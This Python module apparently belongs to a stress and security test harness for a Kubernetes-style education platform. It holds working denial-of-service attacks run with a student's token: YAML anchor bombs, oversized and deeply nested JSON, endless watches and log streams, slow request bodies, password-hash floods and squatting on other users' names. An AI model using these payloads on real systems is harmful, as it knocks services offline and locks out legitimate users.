"""Attacks with one student's token."""
import base64
import itertools
import json
import pathlib
import random
import time
import urllib.parse

from wire import GROUP, addressed, attack, request

YAML = "application/yaml"
DEVICES = f"{GROUP}/devices"
MB = 1024 * 1024
CORPUS = pathlib.Path(__file__).resolve().parents[1] / "fuzz/corpus"


def bearer(a):
    return f"Authorization: Bearer {a.target.token}"


def bodies(a, kind, *texts, path="devices", threads=6):
    """The same few bodies over and over."""
    turn = itertools.cycle(texts)
    a.threads(threads, lambda n: a.student("POST", path, next(turn), kind))


@attack
def yaml_flow_brackets(a):
    bodies(a, YAML, "[" * 60000, "{a: " * 20000, "[" * 3000000)


@attack
def yaml_anchors(a):
    bodies(a, YAML, "".join(f"- &a{n} x\n" for n in range(40000)), "a: &a [1]\n" + "".join(f"k{n}: *a\n" for n in range(100000)))


@attack
def yaml_bomb(a):
    lines = ["a0: &a0 [x,x,x,x,x,x,x,x,x]"] + [f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    bodies(a, YAML, "\n".join(lines))


@attack
def yaml_blocks(a):
    bodies(a, YAML, "- " * 50000, "\n".join(" " * n + "a:" for n in range(1500)), "? " * 50000, "---\n" * 200000, "#" * 3000000,
           "a: |\n" + " x\n" * 700000, "k: " + "x " * 1000000, '"' + "\\x41" * 500000)


@attack
def yaml_keys(a):
    bodies(a, YAML, "".join(f"k{n}: 1\n" for n in range(200000)), "{" + ",".join(f"k{n}" for n in range(200000)))


@attack
def json_bodies(a):
    bodies(a, "application/json", "[" * 2000000, '{"a":' * 400000, json.dumps({f"k{n}": n for n in range(200000)}), "{" + '"a":1,' * 400000 + '"a":1}',
           "[" + "1e308," * 500000 + "1]", '{"spec":"' + "\\u0041" * 480000 + '"}')


@attack
def fuzzers_inputs(a):
    """What the fuzz targets keep, as bodies, queries and headers."""
    inputs = [p.read_bytes() for p in sorted(CORPUS.glob("*/*"))]
    chance = random.Random(a.target.seed)
    def send(n):
        data = chance.choice(inputs)
        which = chance.randrange(3)
        if which == 0:
            a.student("POST", "devices", data * chance.choice([1, 1, 100]), chance.choice([YAML, "application/json", "application/merge-patch+json"]))
        elif which == 1:
            a.throw(request("GET", f"{DEVICES}?labelSelector={urllib.parse.quote_from_bytes(data)[:7000]}", [bearer(a)]))
        else:
            a.student("PATCH", f"devices/{a.target.name}", data, "application/merge-patch+json")
    a.threads(6, send)


@attack
def large_objects(a):
    """Create and delete, as large as may be: what is kept of each is multiplied by the log of events."""
    def turn(n):
        size = random.choice([2900000, 200000, 60000, 15000])
        a.student("POST", "devices", {"metadata": {"name": a.target.name}, "spec": {"openHydraUsername": a.target.name, "affinity": {"x": "y" * size}}})
        a.student("DELETE", f"devices/{a.target.name}")
    a.threads(4, turn)


@attack
def large_patches(a):
    """The own device grows, by one patch after the other, in annotations and labels."""
    path, merge = f"devices/{a.target.name}", "application/merge-patch+json"
    a.student("POST", "devices", {"metadata": {"name": a.target.name}, "spec": {"openHydraUsername": a.target.name}})

    def turn(n):
        size = random.choice([2900000, 200000, 60000, 15000])
        a.student("PATCH", path, {"metadata": {"annotations": {f"x{random.randrange(10 ** 9)}": "y" * size}}}, merge)
        a.student("PATCH", path, {"metadata": {"labels": {f"x{random.randrange(10 ** 9)}": "y" * 60}}}, merge)
        a.student("PATCH", path, {"spec": {"affinity": {f"x{random.randrange(10 ** 9)}": "y" * size}}}, merge)
    a.threads(4, turn)
    a.student("DELETE", path)


@attack
def starts_and_stops(a):
    """Environments in a loop: what the runner and the engine have to do for each."""
    def turn(n):
        a.student("POST", "devices", {"metadata": {"name": a.target.name}, "spec": {"openHydraUsername": a.target.name}})
        time.sleep(random.random())
        a.student("DELETE", f"devices/{a.target.name}")
    a.threads(2, turn)


@attack
def names_of_others(a):
    """Whoever takes these names keeps those who work from starting."""
    name = itertools.cycle(["dave", "admin", "headmaster", "carol"])
    a.threads(4, lambda n: a.student("POST", "devices", {"metadata": {"name": next(name)}, "spec": {"openHydraUsername": a.target.name}}))


@attack
def finalizers(a):
    def turn(n):
        a.student("POST", "devices", {"metadata": {"name": a.target.name, "finalizers": [f"evil.example/{n}" for n in range(1000)]},
                                      "spec": {"openHydraUsername": a.target.name}})
        a.student("DELETE", f"devices/{a.target.name}")
    a.threads(2, turn)


@attack
def watches(a):
    a.hold(6000, request("GET", f"{DEVICES}?watch=1&timeoutSeconds=86400", [bearer(a)]))


@attack
def watches_that_are_not_read(a):
    """Few, and something is changed all the time."""
    data = request("GET", f"{DEVICES}?watch=1&allowWatchBookmarks=true", [bearer(a)])
    path, held = f"devices/{a.target.name}", []
    a.student("POST", "devices", {"metadata": {"name": a.target.name}, "spec": {"openHydraUsername": a.target.name}})
    try:
        for _ in range(200):
            s = a.open(a.target.dashboard)
            s.sendall(addressed(data, s))
            held.append(s)
        a.threads(2, lambda n: a.student("PATCH", path, {"metadata": {"annotations": {"x": "y" * random.randrange(200000)}}},
                                         "application/merge-patch+json"))
        a.student("DELETE", path)
    finally:
        for s in held:
            s.close()


@attack
def log_readers(a):
    a.hold(300, request("GET", f"{DEVICES}/{a.target.inside_name}/log?follow=true&tailLines=0", [f"Authorization: Bearer {a.target.inside_token}"]))


@attack
def log_readers_who_leave(a):
    data = request("GET", f"{DEVICES}/{a.target.inside_name}/log?follow=true&tailLines=0", [f"Authorization: Bearer {a.target.inside_token}"])
    a.threads(16, lambda n: a.throw(data, wait=0.05))


@attack
def lists(a):
    table = {"Accept": "application/json;as=Table;v=v1;g=meta.k8s.io,application/json"}
    a.threads(8, lambda n: a.student("GET", "openhydrausers" if n % 2 else "devices?limit=1", headers=table if n % 3 else {}))


@attack
def selectors(a):
    terms = ",".join(f"k{n} in ({','.join('v' * 10 for _ in range(20))})" for n in range(25)).replace(" ", "%20")
    a.threads(8, lambda n: a.student("GET", f"devices?labelSelector={terms}"[:7000]))


@attack
def own_passwords(a):
    """Each attempt is a hash of 64 MiB."""
    a.threads(8, lambda n: a.student("POST", "/auth/password", {"currentPassword": "wrong", "newPassword": f"a password {random.random()}"}))


@attack
def own_logins(a):
    """Sessions are kept in the database."""
    a.threads(8, lambda n: a.ask("POST", "/auth/login", {"username": a.target.spare_name, "password": "password"}))


@attack
def password_headers(a):
    """A hash with every request."""
    a.threads(8, lambda n: a.ask("GET", DEVICES, headers={"Open-Hydra-Auth": "Bearer " + base64.b64encode(f"{a.target.spare_name}:wrong{n}".encode()).decode()}))


@attack
def tickets(a):
    a.threads(8, lambda n: a.ask("POST", f"{DEVICES}/{a.target.inside_name}/ticket", {}, token=a.target.inside_token))


@attack
def unfinished_bodies_of_a_student(a):
    body = b"{" + b" " * (512 * 1024)
    a.hold(300, request("POST", DEVICES, [bearer(a), "Content-Type: application/json"], body, 3 * MB), drip=b" ")


@attack
def answers_that_are_not_read(a):
    a.hold(300, request("GET", "/openapi/v2", [bearer(a)]) * 20)
